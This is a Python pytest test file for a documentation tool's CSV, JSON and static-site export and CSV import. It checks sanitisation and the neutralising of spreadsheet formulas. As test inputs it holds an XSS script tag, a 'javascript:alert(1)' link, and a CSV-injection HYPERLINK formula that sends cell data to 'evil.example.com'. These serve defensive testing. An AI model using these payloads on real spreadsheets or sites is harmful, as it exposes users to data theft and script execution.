"""Export as CSV, JSON and a static site; import CSV reporting unmatched rows, nothing on a malformed file."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest

from orgbook.documentation import services, transfer
from orgbook.documentation.models import Documentation
from orgbook.documentation.services import DocumentationEdit
from orgbook.errors import Invalid

from .conftest import PRICE


@pytest.fixture
def documented(people: dict[str, Any], retail: Any, retail_models: dict[str, Any]) -> Any:
    services.save_documentation(people["eddie"], retail, *PRICE, DocumentationEdit(
        note="Asking price <script>x</script>", links=[{"url": "https://wiki.example.com/p", "title": "Wiki"}],
        tags=["pricing"]))
    return retail


def test_csv_and_json_exports(documented: Any) -> None:
    rows = list(csv.DictReader(io.StringIO(transfer.export_csv(documented))))
    assert rows[0]["full_name"] == "Property__c.Price__c" and rows[0]["links"] == "Wiki <https://wiki.example.com/p>"
    data = json.loads(transfer.export_json(documented))
    assert data["documentation"][0]["tags"] == ["pricing"]


def test_the_static_site_has_one_page_per_documented_component(documented: Any) -> None:
    archive = zipfile.ZipFile(io.BytesIO(transfer.export_site(documented)))
    names = archive.namelist()
    assert "index.html" in names and "CustomField-Property__c.Price__c.html" in names
    page = archive.read("CustomField-Property__c.Price__c.html").decode()
    assert "Asking Price" in page and "<script>" not in page and "Currency" in page


def test_a_csv_export_imports_back_and_unmatched_rows_are_reported(people: dict[str, Any], documented: Any) -> None:
    text = transfer.export_csv(documented).replace("Asking price", "Price asked")
    text += 'CustomField,Nope__c.Gone__c,"x",\n'
    result = transfer.import_csv(people["alice"], documented, text)
    assert result.imported == 1 and result.unmatched == [{"line": 3, "type": "CustomField", "full_name": "Nope__c.Gone__c"}]
    assert services.find(documented, *PRICE).note.startswith("Price asked")


@pytest.mark.parametrize("text", [
    "type,full_name\nCustomField,Property__c.Price__c\n",
    'type,full_name,note,links\nCustomField,Property__c.Price__c,"new",javascript:alert(1)\n',
    "type,full_name,note\nCustomField,Property__c.Price__c,ok\n,Property__c.Beds__c,missing type\n",
])
def test_a_malformed_file_imports_nothing(people: dict[str, Any], documented: Any, text: str) -> None:
    before = list(Documentation.objects.values_list("note", "revision"))
    with pytest.raises(Invalid) as caught:
        transfer.import_csv(people["alice"], documented, text)
    assert "Nothing was imported" in caught.value.message
    assert list(Documentation.objects.values_list("note", "revision")) == before


@pytest.mark.parametrize("note", ['=HYPERLINK("https://evil.example.com/?"&A1,"Click")', "+1 for this", "-- draft",
                                  "@owner: check", "'=already quoted", "'just a quote"])
def test_the_csv_export_keeps_formulas_as_text_and_imports_back_unchanged(
        people: dict[str, Any], retail: Any, retail_models: dict[str, Any], note: str) -> None:
    services.save_documentation(people["eddie"], retail, *PRICE, DocumentationEdit(note=note))
    cell = next(csv.DictReader(io.StringIO(transfer.export_csv(retail))))["note"]
    assert cell[:1] == "'" and cell[1:] == note  # a spreadsheet shows it as text, never runs it
    exported = transfer.export_csv(retail)
    services.save_documentation(people["eddie"], retail, *PRICE, DocumentationEdit(note="changed meanwhile",
                                                                                   base_revision=1))
    transfer.import_csv(people["alice"], retail, exported)
    assert services.find(retail, *PRICE).note == note


def test_a_hand_written_note_starting_with_an_apostrophe_keeps_it(people: dict[str, Any], retail: Any,
                                                                  retail_models: dict[str, Any]) -> None:
    transfer.import_csv(people["alice"], retail, "type,full_name,note\nCustomField,Property__c.Price__c,'tis the price\n")
    assert services.find(retail, *PRICE).note == "'tis the price"
